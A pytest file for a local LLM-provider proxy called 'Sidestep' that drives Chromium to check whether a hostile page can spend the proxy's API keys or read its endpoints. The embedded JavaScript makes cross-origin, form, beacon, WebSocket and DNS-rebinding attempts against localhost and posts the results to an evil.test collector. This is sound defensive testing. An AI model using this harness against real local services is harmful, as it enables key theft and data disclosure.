"""A web page may do nothing: it spends no key, and reads neither an answer nor how the providers are. Tried with a real
Chromium; it gets what it would get without Sidestep."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from support.browser import Attacker, chromium, found
from support.provider import Behaviour, Provider
from support.proxy import Mitmdump
from support.raw import Wire, chat, to_server
from support.settings import key_of, route
from support.waiting import until

Make = Callable[..., Provider]
Start = Callable[..., Mitmdump]

needs_chromium = pytest.mark.skipif(found() is None, reason="there is no Chromium")

OPEN = (
    b"access-control-allow-origin: *\r\naccess-control-allow-headers: authorization, content-type\r\n"
    b"access-control-expose-headers: *\r\naccess-control-allow-private-network: true\r\nconnection: close\r\n"
)
"""The fields of an app's own host that lets every page read it."""
OWN = Behaviour(
    raw=b'HTTP/1.1 503 x\r\n%scontent-type: application/json\r\ncontent-length: 15\r\n\r\n{"error":"own"}' % OPEN
)
"""After this a stand-in would be asked."""
PREFLIGHT = Behaviour(raw=b"HTTP/1.1 200 OK\r\n%scontent-length: 0\r\n\r\n" % OPEN)
CALL = {"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}]}

SCRIPT = """
const known = {};
const call = JSON.stringify(%(call)s);
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (promise) => Promise.race([promise, wait(5000).then(() => "nothing came")]);
async function attempt(name, act) {
    try { known[name] = await within(act()); } catch (e) { known[name] = "error"; }
}
async function read(url, options) {
    const answer = await fetch(url, options);
    return [answer.type, answer.status, await answer.text(), [...answer.headers.keys()]];
}
function element(kind, fields) {
    return new Promise((done) => {
        const made = Object.assign(document.createElement(kind), fields);
        made.onload = () => done("loaded");
        made.onerror = () => done("error");
        document.body.append(made);
    });
}
function form(url, enctype) {
    return new Promise((done) => {
        const frame = Object.assign(document.createElement("iframe"), { name: "frame" + Math.random() });
        const made = Object.assign(document.createElement("form"), { action: url, method: "POST", enctype });
        made.target = frame.name;
        const cut = call.indexOf('"hi"');
        made.append(Object.assign(document.createElement("input"), {
            name: call.slice(0, cut) + '"', value: '"' + call.slice(cut + 3)
        }));
        document.body.append(frame, made);
        frame.onload = () => {
            let seen = "opaque";
            try { seen = frame.contentDocument.body.innerText; } catch (e) { /* as it should be */ }
            if (seen !== "") done(seen);
        };
        made.submit();
    });
}
function socket(url) {
    return new Promise((done) => {
        const made = new WebSocket(url, ["realtime"]);
        made.onopen = () => done("open");
        made.onmessage = (event) => done(event.data);
        made.onerror = () => done("error");
    });
}
async function spend(name, base) {
    const url = base + "/chat/completions";
    const blind = { method: "POST", mode: "no-cors", body: call };
    const json = { "content-type": "application/json", "authorization": "Bearer the-page-s-own" };
    await attempt(name + " no-cors", () => read(url, blind));
    await attempt(name + " no referrer", () => read(url, { ...blind, referrerPolicy: "no-referrer" }));
    await attempt(name + " cors", () => read(url, { method: "POST", headers: json, body: call }));
    await attempt(name + " simple cors", () => read(url, { method: "POST", body: call }));
    await attempt(name + " keepalive", () => read(url, { ...blind, keepalive: true }));
    await attempt(name + " beacon", async () => navigator.sendBeacon(url, call));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        await attempt(name + " form " + enctype, () => form(url, enctype));
    }
    await attempt(name + " sandbox", () => new Promise((done) => {
        const options = `{method: "POST", mode: "no-cors", body: ${JSON.stringify(call)}}`;
        const act = `fetch("${url}", ${options}).finally(() => parent.postMessage("done", "*"))`;
        window.onmessage = () => done("sent");
        const made = document.createElement("iframe");
        made.sandbox = "allow-scripts";
        made.srcdoc = `<script>${act}</` + `script>`;
        document.body.append(made);
    }));
    await attempt(name + " websocket", () => socket(base.replace("http", "ws") + "/realtime?model=gpt-realtime"));
}
async function look(name, url) {
    await attempt(name + " cors", () => read(url, {}));
    await attempt(name + " no-cors", () => read(url, { mode: "no-cors" }));
    await attempt(name + " script", () => element("script", { src: url }));
    await attempt(name + " image", () => element("img", { src: url }));
    await attempt(name + " style", () => element("link", { rel: "stylesheet", href: url }));
}
async function report(to) {
    await fetch(to, { method: "POST", mode: "no-cors", body: JSON.stringify(known) });
}
"""


def page(act: str) -> str:
    return f"<!doctype html><body><script>{SCRIPT % {'call': json.dumps(CALL)}}\n(async () => {{ {act} }})();</script>"


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as found_one:
        port: int = found_one.getsockname()[1]
        return port


def keyed(own: Provider, a: Provider, intercept: str) -> str:
    """Keys of ours for the app's own host, and for a stand-in."""
    return route("chat", own, a, intercept=intercept)


@pytest.fixture
def own(provider: Make) -> Provider:
    made = provider("own")
    made.chooser = lambda seen: PREFLIGHT if seen.method == "OPTIONS" else OWN
    return made


def spent_nothing(own: Provider, a: Provider) -> None:
    """No request has borne a key of ours, and the stand-in had none at all."""
    assert a.count == 0
    for seen in own.requests:
        assert b"CANARY" not in seen.raw_head
    posts = [seen for seen in own.requests if seen.method == "POST" and seen.body]
    assert posts, "nothing was tried"


def read_nothing(known: dict[str, Any]) -> None:
    """A page knows what the app's own host lets it know, and nothing that Sidestep has done."""
    for name, value in known.items():
        assert "x-sidestep" not in json.dumps(value), (name, value)
        assert '"content"' not in json.dumps(value), (name, value)
        if name.startswith("health"):
            assert value in ("error", ["opaque", 0, "", []]), (name, value)


HEALTH = "/health"


@needs_chromium
def test_a_page_and_a_port_of_this_machine(own: Provider, provider: Make, proxy: Start, tmp_path: Path) -> None:
    """A page of another origin knows the ports of reverse mode: it posts, sends forms, opens a WebSocket, loads."""
    a = provider("a")
    port, health = free_port(), free_port()
    modes = ("--mode", "regular", "--mode", f"reverse:{own.origin}@127.0.0.1:{port}")
    m = proxy(keyed(own, a, own.url()), *modes, "--mode", f"reverse:http://sidestep.internal@127.0.0.1:{health}")
    with Wire(m) as wire:  # what the page must not be able to do
        wire.send(chat(own.url())).answer()
    assert a.count == 1
    a.requests.clear()
    own.requests.clear()
    act = "".join(f'await spend("{h}", "http://{h}:{port}/v1");' for h in ("127.0.0.1", "localhost"))
    act += f'await look("health", "http://127.0.0.1:{health}/health"); await look("health /", "http://localhost:{health}/");'
    act += 'await report("/report");'
    with Attacker(page(act)) as attacker:
        rules = f"--host-resolver-rules=MAP evil.test 127.0.0.1:{attacker.port}"
        with chromium(tmp_path / "profile", "http://evil.test/", rules):
            known = attacker.report()
    spent_nothing(own, a)
    read_nothing(known)
    assert known["127.0.0.1 no-cors"] == ["opaque", 0, "", []]
    assert known["127.0.0.1 cors"][:3] == ["cors", 503, '{"error":"own"}'], "as without Sidestep"
    assert {seen.header("authorization") for seen in own.requests} == {None, "Bearer the-page-s-own"}
    assert m.health()["providers"]["own"]["totals"]["failure"] == 2, "of the call before"


@needs_chromium
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_page_in_a_browser_behind_the_proxy(
    own: Provider, provider: Make, proxy: Start, tmp_path: Path, scheme: str
) -> None:
    """The browser's whole traffic goes through the proxy, which knows where a page's calls come from. Over plain HTTP
    it does not say so by Sec-Fetch-Site."""
    a = provider("a")
    base = f"{scheme}://api.test/v1"
    m = proxy(keyed(own, a, base))
    act = f'await spend("api", "{base}"); await look("health", "http://sidestep.internal/health");'
    act += 'await look("health tls", "https://sidestep.internal/health"); await report("/report");'
    with Attacker(page(act)) as attacker:
        flags = [
            f"--host-resolver-rules=MAP evil.test 127.0.0.1:{attacker.port}",
            f"--proxy-server={m.url}",
            "--proxy-bypass-list=evil.test",
            "--ignore-certificate-errors",
        ]
        with chromium(tmp_path / "profile", "http://evil.test/", *flags):
            known = attacker.report()
    assert (own.count, a.count) == (0, 0)
    read_nothing(known)
    metrics = m.page("/metrics")[1]
    assert b"sidestep_requests_total{" not in metrics
    assert b"sidestep_attempts_total{" not in metrics


REBOUND = """
const base = "http://rebind.test:%(port)d";
while (true) {
    try { const answer = await fetch(base + "%(path)s"); if (answer.status !== 200) break; } catch (e) { /* not yet */ }
    await wait(100);
}
await spend("rebound", base + "/v1");
await attempt("health", () => read(base + "/health", {}));
await attempt("health /", () => read(base + "/", {}));
await attempt("health /metrics", () => read(base + "/metrics", {}));
await report("http://evil.test/report");
"""


@needs_chromium
@pytest.mark.parametrize("target", ["own", "sidestep.internal"])
def test_a_name_that_comes_to_resolve_to_this_machine(
    own: Provider, provider: Make, tmp_path: Path, target: str
) -> None:
    """DNS rebinding: what a page has been loaded from is gone, and a port of ours has its name. To the browser it is
    one origin, so that it may read everything."""
    a = provider("a")
    port = free_port()
    upstream = own.origin if target == "own" else "http://sidestep.internal"
    modes = ("--mode", "regular", "--mode", f"reverse:{upstream}@127.0.0.1:{port}")
    m = Mitmdump(tmp_path / "proxy", keyed(own, a, own.url()), *modes)
    with Attacker("") as collector, Attacker(page(REBOUND % {"port": port, "path": "/up"}), port) as attacker:
        rules = f"MAP evil.test 127.0.0.1:{collector.port}, MAP rebind.test 127.0.0.1"
        with chromium(tmp_path / "profile", f"http://rebind.test:{port}/", f"--host-resolver-rules={rules}"):
            until(lambda: attacker.served > 0, "the page is loaded", 30)
            attacker.close()
            with m:
                known = collector.report()
                if target == "own":
                    spent_nothing(own, a)
                    assert known["rebound cors"][:3] == ["basic", 503, '{"error":"own"}'], "as without Sidestep"
                    assert "passes without a key of ours" in m.log
                else:
                    for name in ("health", "health /", "health /metrics"):
                        assert known[name][1] == 403
                        assert "closed" not in known[name][2]
                assert a.count == 0


# --- what is no page keeps working

APPS: dict[str, list[tuple[str, str]]] = {
    "a program": [],
    "Node's fetch": [("sec-fetch-mode", "cors"), ("user-agent", "node")],
    "an Electron app": [("Origin", "app://obsidian.md"), ("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Mode", "cors")],
    "an Electron app of files": [("Origin", "file://"), ("Sec-Fetch-Site", "cross-site")],
    "a web view": [("Origin", "vscode-webview://1abc"), ("Sec-Fetch-Site", "cross-site")],
    "Tauri": [("Origin", "tauri://localhost")],
    "a library for WebSockets": [("Origin", "http://OWN")],
}


@pytest.mark.parametrize("app", APPS)
@pytest.mark.parametrize("reverse", [False, True])
def test_apps_are_no_pages(provider: Make, proxy: Start, own: Provider, app: str, reverse: bool) -> None:
    """Programs fail over as ever, whatever they are made with, in reverse mode too."""
    a, port = provider("a"), free_port()
    m = proxy(keyed(own, a, own.url()), "--mode", "regular", "--mode", f"reverse:{own.origin}@127.0.0.1:{port}")
    address = ("127.0.0.1", port) if reverse else (own.host, own.port)
    fields = "".join(f"{k}: {v.replace('OWN', ':'.join(map(str, address)))}\r\n" for k, v in APPS[app])
    sent = chat(f"http://{address[0]}:{address[1]}/v1").replace(b"Content-Type", fields.encode() + b"Content-Type")
    if reverse:
        with Wire.over(socket.create_connection(address, timeout=15)) as wire:
            status = wire.send(to_server(sent)).answer()[0]
    else:
        with Wire(m) as wire:
            status = wire.send(sent).answer()[0]
    assert (status, a.count) == (200, 1)
    assert a.requests[0].header("authorization") == f"Bearer {key_of('a')}"


PAGES = {
    "cross-site": [("Sec-Fetch-Site", "cross-site")],
    "same-site": [("Origin", "http://localhost:3000"), ("Sec-Fetch-Site", "same-site")],
    "an origin": [("Origin", "https://evil.test")],
    "no origin at all": [("Origin", "null")],
    "an extension": [("Origin", "chrome-extension://abc")],
    "a foreign host": [("Host", "rebind.test:8080")],
    "a foreign host and its origin": [("Host", "rebind.test:8080"), ("Origin", "http://rebind.test:8080")],
}


@pytest.mark.parametrize("page", PAGES)
def test_pages_pass_as_without_sidestep(provider: Make, proxy: Start, own: Provider, page: str) -> None:
    """As simple requests, the way browsers send them without asking first."""
    a, port = provider("a"), free_port()
    modes = ("--mode", "regular", "--mode", f"reverse:{own.origin}@127.0.0.1:{port}")
    m = proxy(keyed(own, a, own.url()), *modes)
    fields = "".join(f"{k}: {v}\r\n" for k, v in PAGES[page] if k != "Host").encode()
    sent = to_server(chat(f"http://127.0.0.1:{port}/v1"))
    sent = sent.replace(b"Content-Type: application/json", fields + b"Content-Type: text/plain")
    host = dict(PAGES[page]).get("Host")
    if host is not None:
        sent = sent.replace(b"Host: 127.0.0.1:%d" % port, f"Host: {host}".encode())
    with Wire.over(socket.create_connection(("127.0.0.1", port), timeout=15)) as wire:
        status, headers, _ = wire.send(sent).answer()
    assert (status, a.count) == (503, 0)
    assert [name for name in headers if name.startswith("x-sidestep")] == []
    assert [seen.header("authorization") for seen in own.requests] == ["Bearer sk-app"]
    assert m.health()["providers"]["own"]["totals"]["failure"] == 0
    if host is not None:
        assert f"a call by the name {host.partition(':')[0]} passes" in m.log
        m.config.write_text(m.config.read_text() + f'[proxy]\nhosts = ["{host.partition(":")[0]}"]\n')
        m.wait_for_log("configuration reloaded")
        with Wire.over(socket.create_connection(("127.0.0.1", port), timeout=15)) as wire:
            assert wire.send(sent).answer()[0] == 200
